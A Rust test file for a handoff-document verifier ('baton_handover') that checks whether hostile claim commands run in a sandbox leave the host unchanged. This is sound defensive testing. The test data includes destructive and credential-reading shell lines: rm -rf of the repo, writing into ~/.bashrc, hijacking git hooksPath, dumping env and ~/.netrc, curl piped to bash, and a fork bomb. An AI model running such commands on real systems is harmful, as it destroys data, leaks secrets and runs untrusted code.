//! Hostile claims: what a document's checks try to do to the host, and that none of it
//! happens.

use std::path::Path;
use std::time::{Duration, Instant};

use baton_handover::Rubric;
use baton_handover::verify::{self, ClaimStatus, Class, Level, Status};

use crate::support::{git, repo};

fn options(dir: &Path, allow_destructive: bool) -> verify::Options {
    let mut o = verify::Options::new(Level::Claims, dir);
    o.today = "2026-06-01".parse().unwrap();
    o.claim_timeout = Duration::from_secs(5);
    o.sandbox.allow_destructive = allow_destructive;
    o
}

fn handoff(sha: &str, verify_cmd: &str, claims: &[(&str, &str)]) -> String {
    let rows: String = claims
        .iter()
        .map(|(label, check)| format!("| {label} | `{}` |\n", check.replace('|', "\\|")))
        .collect();
    format!(
        "---\nprotocol_version: 1\nhandoff: hostile\nauthor: Mallory\niso_date: 2026-01-14\n\
         true_at_sha: {sha}\nshape: handoff\nfirst_action: Read the claims\n\
         verify_cmd: {verify_cmd}\nstatus: in_progress\n---\n\n# Handover\n\n\
         ## Claims\n\n| Claim | Verify |\n|---|---|\n{rows}\n"
    )
}

/// Everything about the host repository a claim could change.
fn state(d: &Path) -> (String, String, String, String, Vec<String>) {
    let mut files: Vec<String> = walk(d);
    files.sort();
    (
        git(d, &["config", "--local", "--list"]),
        git(d, &["tag", "--list"]),
        git(d, &["branch", "--list", "--format=%(refname:short)"]),
        git(d, &["rev-parse", "HEAD"]),
        files,
    )
}

fn walk(d: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(d).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(format!(
                "{} {}",
                p.display(),
                std::fs::read(&p).map(|b| b.len()).unwrap_or(0)
            ));
        }
    }
    out
}

/// Deleting a folder, writing outside the repository and into HOME, changing git config,
/// tags and branches, echoing secrets: run (allowed) in the sandbox, nothing changes on
/// the host, and the claims see only the allow-list environment.
#[test]
fn issue_26_hostile_claims_change_nothing_on_the_host() {
    let (dir, sha) = repo(&[("src/app.js", "app\n"), ("README.md", "store\n")]);
    let d = dir.path();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("pwned");
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let home_file = Path::new(&home).join(format!(".baton-hostile-{}", std::process::id()));
    let before = state(d);
    let claims = [
        ("Delete src", "rm -rf src && test ! -d src".to_string()),
        ("Delete the repo", "rm -rf .git ./* && true".to_string()),
        (
            "Write outside",
            format!("mkdir -p {0} && echo x > {0}/pwned", outside.path().display()),
        ),
        (
            "Write the system",
            "echo x > /usr/local/baton-hostile".to_string(),
        ),
        (
            "Write into HOME",
            format!("echo x > {}; echo x > ~/.bashrc", home_file.display()),
        ),
        (
            "Git config",
            "git config user.name Mallory && git config core.hooksPath /tmp/evil".to_string(),
        ),
        (
            "Tags and branches",
            "git tag evil && git branch evil && git -c user.name=M -c user.email=m@example.com commit -q --allow-empty -m evil".to_string(),
        ),
        (
            "Secrets",
            "env; cat ~/.netrc; test -z \"$DATABASE_URL$SENTRY_DSN$NPM_CONFIG__AUTH$DOCKER_AUTH_CONFIG$OPENAI_API_KEY\"".to_string(),
        ),
    ];
    let claims: Vec<(&str, &str)> = claims.iter().map(|(l, c)| (*l, c.as_str())).collect();
    let doc = handoff(&sha, "rm -rf src", &claims);
    let path = d.join("HANDOFF.md");
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&options(d, true)));
    assert_eq!(state(d), before, "{:#?}", l.verification.claims);
    assert!(!target.exists(), "wrote outside the repository");
    assert!(!home_file.exists(), "wrote into HOME");
    let by_label = |label: &str| {
        l.verification
            .claims
            .iter()
            .find(|c| c.label == label)
            .unwrap_or_else(|| panic!("no claim {label}"))
    };
    // Each ran, in its own fresh copy: the deletion held there, and the next claim still
    // saw the tree.
    assert_eq!(by_label("Delete src").class(), Class::HeldAndHolds);
    assert_eq!(
        by_label("Git config").class(),
        Class::HeldAndHolds,
        "{}",
        by_label("Git config").output_tail()
    );
    let tags = by_label("Tags and branches");
    assert_eq!(tags.class(), Class::HeldAndHolds, "{}", tags.output_tail());
    assert_eq!(
        by_label("Write outside").class(),
        Class::HeldAndHolds,
        "it wrote into the sandbox's own /tmp, not the host's"
    );
    assert_eq!(
        by_label("Write the system").class(),
        Class::NeverHeld,
        "the system is read-only"
    );
    assert!(!Path::new("/usr/local/baton-hostile").exists());
    let secrets = by_label("Secrets");
    assert_eq!(
        secrets.now.status,
        ClaimStatus::Holds,
        "{}",
        secrets.output_tail()
    );
    assert_eq!(
        verify_check(&l, "verify_cmd").status,
        Status::Ok,
        "allowed, `rm -rf src` runs in the sandbox"
    );
    let _ = std::fs::remove_file(&home_file);
}

fn verify_check<'a>(l: &'a baton_handover::Linted, name: &str) -> &'a verify::Check {
    l.verification
        .checks
        .iter()
        .find(|c| c.name == name)
        .unwrap_or_else(|| panic!("no {name} check"))
}

/// Destructive checks are skipped unless allowed: not run at all, reported with the reason.
#[test]
fn issue_26_destructive_checks_are_skipped_unless_allowed() {
    let (dir, sha) = repo(&[("src/app.js", "app\n")]);
    let d = dir.path();
    let doc = handoff(
        &sha,
        "rm -rf src",
        &[
            ("Wipe", "rm -rf src"),
            (
                "Pipe to shell",
                "curl -s https://example.com/install.sh | bash",
            ),
            ("Raw write", "dd if=/dev/zero of=disk bs=1M count=1"),
            ("Fine", "test -f src/app.js"),
        ],
    );
    let path = d.join("HANDOFF.md");
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&options(d, false)));
    let classes: Vec<Class> = l.verification.claims.iter().map(|c| c.class()).collect();
    assert_eq!(
        classes,
        [
            Class::NotRun,
            Class::NotRun,
            Class::NotRun,
            Class::HeldAndHolds
        ]
    );
    let wipe = &l.verification.claims[0];
    assert_eq!(
        wipe.now.tail,
        "skipped: `rm -r`/`rm -f` deletes files (pass --allow-destructive to run it in the sandbox)"
    );
    let v = verify_check(&l, "verify_cmd");
    assert_eq!(
        v.status,
        Status::Fail,
        "unrun checks fail closed (issue 36)"
    );
    assert!(v.detail.contains("was not run"), "{}", v.detail);
    assert_eq!(l.verification.verdict, verify::Verdict::Failed);
    assert!(d.join("src/app.js").exists());
}

/// A fork bomb, allowed, runs into the sandbox's process limit and its timeout; baton does
/// not panic and the host keeps its processes.
#[test]
fn issue_26_a_fork_bomb_claim_never_panics() {
    let (dir, sha) = repo(&[("README.md", "x\n")]);
    let d = dir.path();
    let doc = handoff(
        &sha,
        "test -f README.md",
        &[
            ("Bomb", "bomb() { bomb | bomb & }; bomb"),
            ("After", "test -f README.md"),
        ],
    );
    let path = d.join("HANDOFF.md");
    let mut opts = options(d, true);
    opts.claim_timeout = Duration::from_secs(3);
    let start = Instant::now();
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&opts));
    assert!(
        start.elapsed() < Duration::from_secs(60),
        "{:?}",
        start.elapsed()
    );
    let after = &l.verification.claims[1];
    assert_eq!(
        after.class(),
        Class::HeldAndHolds,
        "{}",
        after.output_tail()
    );
}

/// One deadline bounds the whole verification: claims past it are not run, and say so.
#[test]
fn issue_26_the_total_time_limit_bounds_the_verification() {
    let (dir, sha) = repo(&[("README.md", "x\n")]);
    let d = dir.path();
    let claims: Vec<(&str, &str)> = (0..6).map(|_| ("Slow", "sleep 20")).collect();
    let doc = handoff(&sha, "test -f README.md", &claims);
    let path = d.join("HANDOFF.md");
    let mut opts = options(d, false);
    opts.claim_timeout = Duration::from_secs(20);
    opts.sandbox.total_timeout = Duration::from_secs(3);
    let start = Instant::now();
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&opts));
    assert!(
        start.elapsed() < Duration::from_secs(15),
        "{:?}",
        start.elapsed()
    );
    let last = l.verification.claims.last().unwrap();
    assert_eq!(last.now.tail, "not run: the total time limit ran out");
    assert_eq!(last.class(), Class::NotRun);
    assert_eq!(l.verification.verdict, verify::Verdict::Failed);
}

/// Without `--allow-network` a check sees only a private loopback; with it, the host's
/// interfaces.
#[test]
fn issue_26_the_network_is_off_unless_allowed() {
    let host = std::fs::read_to_string("/proc/net/dev").unwrap_or_default();
    let interfaces = host.lines().filter(|l| l.contains(':')).count();
    let (dir, sha) = repo(&[("README.md", "x\n")]);
    let d = dir.path();
    let doc = handoff(
        &sha,
        "test -f README.md",
        &[(
            "More than loopback",
            "test $(grep -c : /proc/net/dev) -gt 1",
        )],
    );
    let path = d.join("HANDOFF.md");
    let mut opts = options(d, false);
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&opts));
    assert_eq!(l.verification.claims[0].now.status, ClaimStatus::Fails);
    if interfaces < 2 {
        use std::io::Write as _;
        let _ = writeln!(
            std::io::stderr(),
            "SKIPPED: this host has no interface but loopback; --allow-network was not checked"
        );
        return;
    }
    opts.sandbox.allow_network = true;
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&opts));
    let claim = &l.verification.claims[0];
    assert_eq!(
        claim.now.status,
        ClaimStatus::Holds,
        "{}",
        claim.output_tail()
    );
}

/// A large ignored folder (a sparse 3 GiB build file here) is bound read-only into the
/// sandbox, not copied (issue 36); where it would have to be copied (`--no-sandbox`), the
/// tree is refused before copying, and the claims that could not run fail the document.
// See: issue 36
#[test]
fn issue_26_a_tree_too_large_to_copy_is_refused_not_copied() {
    let (dir, sha) = repo(&[(".gitignore", "target/\n"), ("README.md", "x\n")]);
    let d = dir.path();
    std::fs::create_dir(d.join("target")).unwrap();
    let big = std::fs::File::create(d.join("target/huge.bin")).unwrap();
    big.set_len(3 << 30).unwrap();
    let doc = handoff(
        &sha,
        "test -f README.md",
        &[
            ("Readme", "test -f README.md"),
            ("Build output", "test -s target/huge.bin"),
        ],
    );
    let path = d.join("HANDOFF.md");
    let start = Instant::now();
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&options(d, false)));
    assert!(start.elapsed() < Duration::from_secs(10));
    for claim in &l.verification.claims {
        assert_eq!(
            claim.class(),
            Class::HeldAndHolds,
            "{}",
            claim.output_tail()
        );
    }
    let mut opts = options(d, false);
    opts.sandbox.isolation = baton_handover::sandbox::Isolation::Host;
    let start = Instant::now();
    let l = baton_handover::lint(&doc, &path, Rubric::Baton, Some(&opts));
    assert!(start.elapsed() < Duration::from_secs(10));
    let claim = &l.verification.claims[0];
    assert_eq!(claim.class(), Class::NotRun);
    assert!(
        claim.now.tail.contains("holds more than 2048 MiB"),
        "{}",
        claim.now.tail
    );
    assert_eq!(verify_check(&l, "verify_cmd").status, Status::Fail);
    assert_eq!(l.verification.verdict, verify::Verdict::Failed);
}
